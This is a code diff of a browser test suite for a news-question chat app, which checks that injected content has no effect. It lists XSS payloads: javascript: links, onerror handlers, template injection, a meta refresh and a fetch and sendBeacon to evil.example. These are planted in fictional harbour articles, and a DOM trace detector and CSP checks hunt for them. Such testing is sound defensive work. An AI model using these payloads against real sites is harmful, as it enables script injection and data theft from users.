@@ -35,10 +35,10 @@ ATTACKS = (
     '<iframe src="https://evil.example/frame"></iframe>',
     "[click](javascript:window.hacked=5) ![seen](https://evil.example/seen.png) https://evil.example/bare",
     '<a href="javascript:window.hacked=6">there</a>',
-    "${window.hacked=7} `${window.hacked=8}` {{constructor.constructor('window.hacked=9')()}} {{{value}}} <%= hacked %>",
+    "${window.hacked=7} `${window.hacked=8}` {{constructor.constructor('window.hacked=9')()}} {{{value}}} <%= x %>",
     "</mark></section></article></textarea></title></style><style>*{position:fixed!important;inset:0}</style>",
     "' onmouseover='window.hacked=10' style='position:fixed;inset:0;background:url(https://evil.example/css.png)",
-    "$$\\href{javascript:window.hacked=11}{x}$$ <math><mtext></form><form><mglyph><style></math><img src onerror=hacked>",
+    "$$\\href{javascript:window.hacked=11}{x}$$ <math><mtext></form><form><mglyph><style></math><img src onerror=x>",
     "\x1b[31mred\x1b]0;hacked\x07\x1b[2J \u202egnp.exe\u2066 \u200f",
     '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
     '<form action="https://evil.example/"><button autofocus onfocus="window.hacked=12">Log in</button></form>',
@@ -55,21 +55,9 @@ WHAT = "What did the council of Skagvik say about the ferry?"
 WHEN = "Timeline of the Skagvik ferry"
 UNSAID = f"How tall is the tower of Verona? {ALL}"[:3900]
 
-# What shows words of an article, a file name or a question, and how to get there.
-PLACES: dict[str, Callable[[Chat], None]] = {
-    "an answer": lambda chat: chat.ask(WHO),
-    "another answer": lambda chat: chat.ask(WHAT),
-    "a timeline": lambda chat: chat.ask(WHEN),
-    "a count and its list": lambda chat: (chat.ask(HOW_MANY), unfold(chat)),  # type: ignore[func-returns-value]
-    "a hostile question that is not answered": lambda chat: chat.ask(UNSAID),
-    "a hostile question that is answered": lambda chat: chat.ask(f"{WHO} {ATTACKS[1]} {ATTACKS[5]}"),
-    "an article": lambda chat: (chat.ask(WHO), open_each(chat)),  # type: ignore[func-returns-value]
-    "an article that was counted": lambda chat: (chat.ask(HOW_MANY), open_each(chat)),  # type: ignore[func-returns-value]
-    "the nearest passages": lambda chat: (chat.ask(UNSAID), open_each(chat)),  # type: ignore[func-returns-value]
-    "what the mouse is over": lambda chat: (chat.ask(WHO), hover(chat)),  # type: ignore[func-returns-value]
-    "the question edited": lambda chat: (chat.ask(UNSAID), edit(chat)),  # type: ignore[func-returns-value]
-    "the conversation after a reload": lambda chat: (chat.ask(UNSAID), reload(chat)),  # type: ignore[func-returns-value]
-}
+
+def asking(question: str) -> Callable[[Chat], None]:
+    return lambda chat: chat.ask(question)
 
 
 def unfold(chat: Chat) -> None:
@@ -100,10 +88,30 @@ def reload(chat: Chat) -> None:
     chat.page.locator(".dl-done").first.wait_for()
 
 
+# What shows words of an article, a file name or a question, and how to get there.
+PLACES: dict[str, Sequence[Callable[[Chat], None]]] = {
+    "an answer": [asking(WHO)],
+    "another answer": [asking(WHAT)],
+    "a timeline": [asking(WHEN)],
+    "a count and its list": [asking(HOW_MANY), unfold],
+    "a hostile question that is not answered": [asking(UNSAID)],
+    "a hostile question that is answered": [asking(f"{WHO} {ATTACKS[1]} {ATTACKS[5]}")],
+    "an article": [asking(WHO), open_each],
+    "an article that was counted": [asking(HOW_MANY), open_each],
+    "the nearest passages": [asking(UNSAID), open_each],
+    "what the mouse is over": [asking(WHO), hover],
+    "a question being edited": [asking(UNSAID), edit],
+    "a conversation after a reload": [asking(UNSAID), reload],
+}
+
+
 # What an attack would have left behind: elements, handlers, addresses, characters that turn or steer, a page laid over.
 TRACES = """() => {
     const found = [];
-    const own = document.querySelectorAll('#panes *, .dl-view *, #masthead *, #dl-say, body > :not(script):not(gradio-app)');
+    const own = document.querySelectorAll(
+        '#panes *, .dl-view *, #masthead *, #dl-say, body > :not(script):not(gradio-app)');
+    const addresses = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'];
+    const words = ['title', 'value', 'aria-label'];
     for (const e of own) {
         const what = e.tagName.toLowerCase();
         if (['script', 'iframe', 'object', 'embed', 'video', 'audio', 'math', 'meta', 'base', 'link', 'style', 'img',
@@ -111,15 +119,17 @@ TRACES = """() => {
         if (what === 'form' && e.hasAttribute('action')) found.push('form with an action');
         for (const { name, value } of e.attributes) {
             if (name.startsWith('on')) found.push(`${what} ${name}`);
-            if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'].includes(name)
-                && !value.startsWith('#') && !value.startsWith('/') && !value.startsWith('data:image/svg')) found.push(`${what} ${name}=${value}`);
-            if (/evil\\.example|hacked/.test(value) && !['title', 'value', 'aria-label', 'data-text'].includes(name) && !name.startsWith('data-'))
+            if (addresses.includes(name) && !/^(#|[/](?![/])|data:image[/]svg)/.test(value))
+                found.push(`${what} ${name}=${value}`);
+            if (/evil\\.example|hacked/.test(value) && !words.includes(name) && !name.startsWith('data-'))
                 found.push(`${what} ${name}=${value}`);
         }
         if (e.closest('#panes') && getComputedStyle(e).position === 'fixed') found.push(`${what} laid over`);
     }
-    const text = document.querySelector('#panes').textContent + [...own].map(e => e.getAttribute('title') || '').join('');
-    const odd = text.match(/[\\u0000-\\u0008\\u000e-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f\\u061c]/g);
+    const titles = [...own].map(e => e.getAttribute('title') || '');
+    const text = document.querySelector('#panes').textContent + titles.join('');
+    const odd = text.match(
+        /[\\u0000-\\u0008\\u000e-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f\\u061c]/g);
     if (odd) found.push(`characters ${[...new Set(odd)].map(c => c.codePointAt(0).toString(16))}`);
     if (document.documentElement.scrollWidth > window.innerWidth) found.push('wider than the window');
     const input = document.querySelector('#question textarea').getBoundingClientRect();
@@ -133,21 +143,31 @@ def write_hostile_folder(folder: Path) -> None:
     """Articles about a harbour, an attack in each field."""
     place = folder / IN_A_FOLDER
     place.mkdir(parents=True)
-    story = (
-        f"Mira Lunde {ALL} is the harbour master of Skagvik.\n\nThe council of Skagvik said on 3 March 2021 that the "
-        f"ferry {ATTACKS[1]} will sail on Monday {ATTACKS[5]}, after {ATTACKS[7]} repairs to the pier.\n"
+    story = "\n\n".join(
+        f"On day {n} of the storm the ferry of Skagvik stayed in port {attack} because the wind was too strong for it, "
+        f"and the council of the town said that nobody had been hurt. The crew waited in the town hall until evening."
+        for n, attack in enumerate(ATTACKS, 1)
     )
-    (place / IN_A_NAME).write_text(f"Skagvik harbour {ATTACKS[0]}\n\n{story}\n{LONG} Skagvik.\n", encoding="utf-8")
+    who = f"Mira Lunde is the harbour master of Skagvik {ATTACKS[0]} {ATTACKS[1]}, since 2019."
+    (place / IN_A_NAME).write_text(f"Storm keeps the Skagvik ferry in port\n\n{who}\n\n{story}\n", encoding="utf-8")
+    plain = (
+        "The wind had been strong since the morning. The crew checked the ropes, and the passengers waited at home. "
+    )
+    long = f"A long word in Skagvik\n\n{plain * 3}\n\nIt read {LONG}.\n\n{plain}\n"
+    (folder / "long.txt").write_text(long)
     lines = [
         {
             "title": f"=HYPERLINK(\"https://evil.example\") Skagvik ferry {attack}", "author": f"Ida {attack}",
-            "source": f"Outlet {attack}", "publisher": f"Outlet {attack}", "site": attack, "url": f"javascript:{attack}",
+            "source": f"Outlet {attack}", "publisher": f"Outlet {attack}", "site": attack,
+            "url": f"javascript:{attack}",
             "date": f"2021-03-{n:02}", "section": attack, "description": attack,
-            "text": f"The ferry of Skagvik stayed in port on day {n} {attack} and the crew waited.\n\nThe harbour master of "
-            f"Skagvik, Mira Lunde, counted {n} boats {attack} that evening \ud800 and \u0000 went home.",
+            "text": f"The ferry of Skagvik stayed in port on day {n} {attack} and the crew waited.\n\n"
+            f"The harbour master of Skagvik, Mira Lunde, counted {n} boats {attack} and went home.\n\n{plain * 3}",
         }
         for n, attack in enumerate(ATTACKS, 1)
     ]  # fmt: skip
+    lines.append({"title": "Half a \ud800 character", "text": f"{plain * 3} \udfff Skagvik."})
+    lines.append({"title": "Nothing \u0000 in it", "text": f"{plain * 3} \u0000 Skagvik."})
     (folder / "wire.jsonl").write_text("\n".join(json.dumps(line) for line in lines), encoding="ascii")
     (folder / "page.html").write_text(
         f"<html><head><title>Skagvik pier {ALL.replace('</title>', '')}</title>"
@@ -155,7 +175,7 @@ def write_hostile_folder(folder: Path) -> None:
         '<meta property="og:site_name" content="&lt;img src=x onerror=window.hacked=31&gt;">'
         '<meta property="article:published_time" content="2021-03-20"></head><body><article>'
         "<h1>Skagvik pier &lt;img src=x onerror=window.hacked=32&gt;</h1><p>The pier of Skagvik was rebuilt in 2021, "
-        "&lt;script&gt;window.hacked=33&lt;/script&gt; the council said. It cost 84 million crowns, the council said.</p>"
+        "&lt;script&gt;window.hacked=33&lt;/script&gt; the council said. It cost 84 million crowns.</p>"
         "<p>The harbour master of Skagvik, Mira Lunde, opened the pier on 20 March 2021.</p></article></body></html>",
         encoding="utf-8",
     )
@@ -217,7 +237,8 @@ def watched(contexts: Callable[[str, int], BrowserContext], hostile_address: str
 
 @pytest.mark.parametrize("place", PLACES)
 def test_nothing_hostile_has_any_effect_in(place: str, watched: Watched) -> None:
-    PLACES[place](watched)
+    for step in PLACES[place]:
+        step(watched)
     watched.page.wait_for_timeout(200)
     assert watched.traces() == []
 
@@ -227,12 +248,12 @@ def test_every_field_of_the_hostile_articles_is_there_to_be_shown(hostile: Store
     shown = {
         "headline": any("window.hacked" in (a.headline or "") for a in articles),
         "outlet": any("hacked" in (a.outlet or "") for a in articles),
-        "author": any("hacked" in author for a in articles for author in a.authors),
         "name": any("window.hacked=21" in a.source for a in articles),
         "folder": any("window.hacked=20" in a.source for a in articles),
         "text": any("window.hacked=1<" in hostile.text_of(a.article_id) for a in articles),
     }
     assert [field for field, is_there in shown.items() if not is_there] == []
+    assert not any(a.authors for a in articles)  # a byline that is no name is not taken for one
 
 
 def test_what_was_hostile_is_shown_as_words(watched: Watched) -> None:
@@ -272,24 +293,29 @@ def test_an_element_that_did_get_in_runs_nothing_and_fetches_nothing(chat: Chat,
 @pytest.mark.parametrize(
     "attempt",
     [
-        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hacked=1'; document.body.append(s)",
-        "const a = document.createElement('a'); a.href = 'javascript:window.hacked=1'; document.body.append(a); a.click()",
+        "add('script', { textContent: 'window.hacked = 1' })",
+        "add('script', { src: 'https://evil.example/x.js' })",
+        "add('script', { src: 'data:text/javascript,window.hacked=1' })",
+        "add('a', { href: 'javascript:window.hacked=1' }).click()",
         "location.href = 'javascript:window.hacked=1'",
-        "const f = document.createElement('form'); f.action = 'javascript:window.hacked=1'; document.body.append(f); f.submit()",
+        "add('form', { action: 'javascript:window.hacked=1' }).submit()",
         "document.body.setAttribute('onclick', 'window.hacked=1'); document.body.click()",
         "try { Function('window.hacked = 1')() } catch {}",
         "try { (async () => {}).constructor('window.hacked = 1')() } catch {}",
         "fetch('https://evil.example/').catch(() => {})",
         "navigator.sendBeacon('https://evil.example/', 'x')",
     ],
-)  # fmt: skip
+)
 def test_the_browser_refuses_what_the_server_did_not_write(chat: Chat, attempt: str) -> None:
     script = f"""() => new Promise(done => {{
         let refused = null;
         document.addEventListener('securitypolicyviolation', e => {{ refused = e.effectiveDirective; }});
-        {attempt};
+        const add = (what, props) => {{
+            const made = Object.assign(document.createElement(what), props);
+            document.body.append(made);
+            return made;
+        }};
+        setTimeout(() => {{ {attempt}; }}, 0);  // later: what is evaluated at once is the test's own, and may be
         setTimeout(() => done([window.hacked ?? null, refused]), 400);
     }})"""
     hacked, refused = chat.page.evaluate(script)
